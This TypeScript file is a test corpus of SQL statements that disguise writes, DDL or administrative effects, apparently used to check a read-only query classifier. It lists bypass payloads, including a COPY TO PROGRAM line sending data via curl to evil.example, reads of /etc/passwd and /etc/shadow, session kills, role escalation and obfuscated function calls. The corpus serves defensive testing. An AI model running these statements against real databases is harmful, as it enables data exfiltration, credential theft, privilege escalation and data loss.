import type { SqlFlags } from './classifier.js';
import type { SqlClass } from './sql-class.js';

export { SQL_CATALOG_BYPASS_CORPUS, type CatalogBypassCase } from './catalog-corpus.js';

/** One statement that tries to pass for less than it is, and the least the classifier must say about it. */
export interface BypassCase {
  sql: string;
  /** The classification must be at least this class. */
  atLeast: SqlClass;
  /** Flags that must be set. */
  flags?: (keyof SqlFlags)[];
  /** Side-effecting functions that must be reported. */
  sideEffects?: string[];
  why: string;
}

/**
 * Statements that hide a write, DDL or administrative effect. This list only grows: every bypass ever
 * found is added here and stays a test (sql-classifier.test.ts) forever. Never remove or weaken a case.
 */
export const SQL_BYPASS_CORPUS: readonly BypassCase[] = [
  // Data-modifying CTEs
  {
    sql: 'WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d',
    atLeast: 'write',
    flags: ['cteWrite'],
    why: 'DELETE in a CTE',
  },
  {
    sql: 'WITH u AS (UPDATE users SET admin = true RETURNING id) SELECT 1',
    atLeast: 'write',
    flags: ['cteWrite', 'updateWithoutWhere'],
    why: 'UPDATE without WHERE in a CTE',
  },
  {
    sql: 'WITH i AS (INSERT INTO audit_log DEFAULT VALUES RETURNING 1) SELECT * FROM i',
    atLeast: 'write',
    flags: ['cteWrite'],
    why: 'INSERT in a CTE',
  },
  {
    sql: 'WITH x AS MATERIALIZED (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM x',
    atLeast: 'write',
    flags: ['cteWrite'],
    why: 'materialized CTE',
  },
  {
    sql: 'WITH a AS (SELECT 1), b AS (DELETE FROM t WHERE id IN (SELECT * FROM a) RETURNING *) SELECT * FROM b',
    atLeast: 'write',
    flags: ['cteWrite'],
    why: 'second CTE writes',
  },
  {
    sql: 'WITH RECURSIVE r AS (SELECT 1) INSERT INTO t SELECT * FROM r',
    atLeast: 'write',
    why: 'INSERT after a WITH',
  },
  // EXPLAIN runs its statement with ANALYZE
  {
    sql: 'EXPLAIN ANALYZE DELETE FROM t',
    atLeast: 'write',
    flags: ['explainAnalyze', 'deleteWithoutWhere'],
    why: 'EXPLAIN ANALYZE executes',
  },
  {
    sql: 'EXPLAIN ANALYSE DELETE FROM t',
    atLeast: 'write',
    flags: ['explainAnalyze'],
    why: 'British spelling',
  },
  {
    sql: 'EXPLAIN (ANALYZE) UPDATE t SET a = 1',
    atLeast: 'write',
    flags: ['explainAnalyze'],
    why: 'option list form',
  },
  { sql: 'EXPLAIN (ANALYZE 1) DELETE FROM t', atLeast: 'write', why: 'numeric true' },
  { sql: "EXPLAIN (ANALYZE 'on') DELETE FROM t", atLeast: 'write', why: 'string true' },
  { sql: 'EXPLAIN (FORMAT JSON, ANALYZE TRUE) DELETE FROM t', atLeast: 'write', why: 'ANALYZE not first' },
  {
    sql: 'EXPLAIN ANALYZE SELECT pg_terminate_backend(1)',
    atLeast: 'admin',
    why: 'side effect under EXPLAIN ANALYZE',
  },
  // COPY
  {
    sql: "COPY t TO PROGRAM 'curl -d @- https://evil.example'",
    atLeast: 'admin',
    flags: ['copyProgram'],
    why: 'runs a program',
  },
  { sql: "COPY t FROM PROGRAM 'id'", atLeast: 'admin', flags: ['copyProgram'], why: 'runs a program' },
  { sql: "COPY t TO '/tmp/dump.csv'", atLeast: 'admin', flags: ['copyFile'], why: 'writes a server file' },
  { sql: "COPY t FROM '/etc/passwd'", atLeast: 'admin', flags: ['copyFile'], why: 'reads a server file' },
  { sql: 'COPY (DELETE FROM t RETURNING *) TO STDOUT', atLeast: 'write', why: 'DML inside COPY' },
  { sql: 'COPY t FROM STDIN', atLeast: 'write', why: 'loads rows' },
  // Side-effecting functions
  {
    sql: 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
    atLeast: 'admin',
    sideEffects: ['pg_terminate_backend'],
    why: 'kills sessions',
  },
  { sql: 'SELECT pg_cancel_backend(42)', atLeast: 'admin', why: 'cancels queries' },
  { sql: 'SELECT pg_catalog.pg_terminate_backend(42)', atLeast: 'admin', why: 'schema-qualified' },
  { sql: 'SELECT "pg_terminate_backend"(42)', atLeast: 'admin', why: 'quoted identifier' },
  { sql: 'SELECT U&"\\0070g_terminate_backend"(42)', atLeast: 'admin', why: 'unicode-escaped identifier' },
  {
    sql: 'SELECT * FROM ROWS FROM (pg_terminate_backend(1)) AS x',
    atLeast: 'admin',
    why: 'function in FROM',
  },
  {
    sql: 'SELECT 1 WHERE EXISTS (SELECT pg_cancel_backend(1))',
    atLeast: 'admin',
    why: 'function in a sublink',
  },
  { sql: 'VALUES ((SELECT pg_terminate_backend(1)))', atLeast: 'admin', why: 'function in VALUES' },
  {
    sql: "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)",
    atLeast: 'admin',
    why: 'dblink runs remote SQL',
  },
  { sql: "SELECT dblink_exec('DELETE FROM t')", atLeast: 'admin', why: 'dblink_exec' },
  { sql: "SELECT lo_export(1234, '/tmp/x')", atLeast: 'admin', why: 'writes a server file' },
  { sql: "SELECT lo_import('/etc/shadow')", atLeast: 'admin', why: 'reads a server file' },
  { sql: "SELECT pg_read_file('/etc/passwd')", atLeast: 'admin', why: 'reads a server file' },
  {
    sql: "SELECT set_config('transaction_read_only', 'off', true)",
    atLeast: 'admin',
    why: 'changes settings',
  },
  {
    sql: "SELECT set_config('role', 'postgres', false)",
    atLeast: 'admin',
    why: 'changes role through a setting',
  },
  {
    sql: "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')",
    atLeast: 'admin',
    why: 'runs SQL given as a string',
  },
  {
    sql: "SELECT * FROM ts_stat('DELETE FROM t RETURNING ''a''::tsvector')",
    atLeast: 'admin',
    why: 'runs SQL given as a string',
  },
  { sql: "SELECT nextval('orders_id_seq')", atLeast: 'write', why: 'advances a sequence' },
  { sql: "SELECT setval('orders_id_seq', 1)", atLeast: 'write', why: 'resets a sequence' },
  { sql: 'SELECT pg_advisory_lock(1)', atLeast: 'write', why: 'session lock outlives the call' },
  { sql: "SELECT pg_notify('ch', 'x')", atLeast: 'write', why: 'sends a notification' },
  { sql: 'SELECT pg_reload_conf()', atLeast: 'admin', why: 'reloads server configuration' },
  { sql: "SELECT pg_logical_emit_message(true, 'x', 'y')", atLeast: 'admin', why: 'writes WAL' },
  {
    sql: 'SELECT pg_sleep(3600)',
    atLeast: 'read',
    sideEffects: ['pg_sleep'],
    why: 'reported so policy can refuse it',
  },
  // Attribute-call syntax and functional notation (issue 12): a function called without parentheses
  {
    sql: 'SELECT (pid).pg_terminate_backend FROM pg_stat_activity',
    atLeast: 'admin',
    sideEffects: ['pg_terminate_backend'],
    why: 'attribute-call syntax kills sessions',
  },
  {
    sql: "SELECT ('/etc/hostname'::text).pg_read_file",
    atLeast: 'admin',
    sideEffects: ['pg_read_file'],
    why: 'attribute-call syntax reads a server file',
  },
  {
    sql: 'SELECT a.pg_cancel_backend FROM (SELECT 42) a(pid)',
    atLeast: 'admin',
    why: 'functional notation on a row',
  },
  {
    sql: 'SELECT x.pg_catalog.pg_terminate_backend FROM (SELECT 1) x',
    atLeast: 'admin',
    why: 'qualified attribute call',
  },
  {
    sql: "SELECT ((SELECT 'orders_id_seq'::regclass)).nextval",
    atLeast: 'write',
    why: 'attribute call on a sub-select',
  },
  {
    sql: "SELECT ('x'::text).set_config",
    atLeast: 'admin',
    why: 'attribute call on a literal (the call itself fails, the intent is refused)',
  },
  {
    sql: "SELECT table_to_xml('users', true, true, '')",
    atLeast: 'admin',
    why: 'reads a table named in a string',
  },
  { sql: "SELECT ts_rewrite('a'::tsquery, 'SELECT 1')", atLeast: 'admin', why: 'runs SQL given as a string' },
  { sql: "SELECT lo_from_bytea(0, '\\x00')", atLeast: 'admin', why: 'creates a large object' },
  { sql: 'SELECT pg_ls_waldir()', atLeast: 'admin', why: 'lists a server directory' },
  { sql: 'SELECT setseed(0.5)', atLeast: 'admin', why: 'changes session state' },
  // Row locks and table creation hidden in SELECT
  {
    sql: 'SELECT * FROM accounts FOR UPDATE',
    atLeast: 'write',
    flags: ['selectForUpdate'],
    why: 'locks rows',
  },
  {
    sql: 'SELECT * FROM accounts FOR NO KEY UPDATE SKIP LOCKED',
    atLeast: 'write',
    flags: ['selectForUpdate'],
    why: 'locks rows',
  },
  {
    sql: 'SELECT * FROM accounts FOR SHARE',
    atLeast: 'write',
    flags: ['selectForUpdate'],
    why: 'locks rows',
  },
  {
    sql: 'SELECT * INTO stolen FROM accounts',
    atLeast: 'ddl',
    flags: ['selectInto'],
    why: 'creates a table',
  },
  { sql: 'SELECT 1 INTO TEMP t2', atLeast: 'ddl', flags: ['selectInto'], why: 'creates a temporary table' },
  { sql: 'DECLARE c CURSOR FOR SELECT * FROM accounts FOR UPDATE', atLeast: 'write', why: 'locking cursor' },
  // Roles, settings and transaction control
  { sql: 'SET ROLE postgres', atLeast: 'admin', flags: ['setRole'], why: 'changes role' },
  { sql: 'SET LOCAL ROLE postgres', atLeast: 'admin', flags: ['setRole'], why: 'changes role locally' },
  {
    sql: "SET SESSION AUTHORIZATION 'postgres'",
    atLeast: 'admin',
    flags: ['setRole'],
    why: 'changes session user',
  },
  { sql: 'RESET ROLE', atLeast: 'admin', flags: ['setRole'], why: 'changes role' },
  { sql: 'SET TRANSACTION READ WRITE', atLeast: 'admin', why: 'leaves read-only mode' },
  { sql: 'SET LOCAL transaction_read_only = off', atLeast: 'admin', why: 'leaves read-only mode' },
  { sql: 'SET default_transaction_read_only = off', atLeast: 'admin', why: 'leaves read-only mode' },
  {
    sql: 'START TRANSACTION READ WRITE',
    atLeast: 'admin',
    flags: ['transactionControl'],
    why: 'new transaction',
  },
  { sql: 'COMMIT', atLeast: 'admin', flags: ['transactionControl'], why: 'ends the read-only transaction' },
  {
    sql: 'SELECT 1; COMMIT; DELETE FROM t',
    atLeast: 'admin',
    flags: ['multiStatement', 'transactionControl'],
    why: 'escapes the transaction',
  },
  {
    sql: 'SELECT 1; DELETE FROM t',
    atLeast: 'write',
    flags: ['multiStatement'],
    why: 'second statement writes',
  },
  {
    sql: 'SELECT 1 -- comment\n; DELETE FROM t',
    atLeast: 'write',
    flags: ['multiStatement'],
    why: 'comment before the separator',
  },
  // Opaque code
  { sql: 'DO $$ BEGIN DELETE FROM t; END $$', atLeast: 'admin', why: 'anonymous code block' },
  { sql: 'CALL purge_everything()', atLeast: 'admin', why: 'procedure' },
  { sql: 'PREPARE p AS DELETE FROM t', atLeast: 'admin', why: 'prepared write' },
  { sql: 'EXECUTE p', atLeast: 'admin', why: 'runs a prepared statement of unknown class' },
  { sql: 'CREATE EXTENSION dblink', atLeast: 'admin', why: 'extension' },
  {
    sql: 'IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y',
    atLeast: 'admin',
    why: 'unknown statement kinds fail closed',
  },
  // Writes and DDL named plainly but dangerous
  {
    sql: 'DELETE FROM t WHERE true',
    atLeast: 'write',
    flags: ['deleteWithoutWhere'],
    why: 'WHERE that filters nothing',
  },
  {
    sql: 'DELETE FROM t WHERE 1 = 1',
    atLeast: 'write',
    flags: ['deleteWithoutWhere'],
    why: 'WHERE that filters nothing',
  },
  {
    sql: "UPDATE t SET a = 1 WHERE 'x' = 'x'",
    atLeast: 'write',
    flags: ['updateWithoutWhere'],
    why: 'WHERE that filters nothing',
  },
  { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', atLeast: 'write', why: 'MERGE' },
  { sql: 'INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2', atLeast: 'write', why: 'upsert' },
  { sql: 'TRUNCATE payments.cards', atLeast: 'ddl', why: 'truncates' },
  { sql: 'LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE', atLeast: 'write', why: 'blocks everyone' },
  { sql: 'CREATE TABLE copy AS SELECT * FROM accounts', atLeast: 'ddl', why: 'creates a table' },
  { sql: 'REFRESH MATERIALIZED VIEW mv', atLeast: 'write', why: 'rewrites a view' },
  { sql: 'GRANT ALL ON accounts TO PUBLIC', atLeast: 'admin', why: 'grants rights' },
  { sql: "ALTER ROLE app PASSWORD 'x'", atLeast: 'admin', why: 'changes a password' },
  { sql: 'ALTER SYSTEM SET log_statement = none', atLeast: 'admin', why: 'changes server configuration' },
  { sql: 'VACUUM FULL accounts', atLeast: 'admin', why: 'rewrites a table' },
];
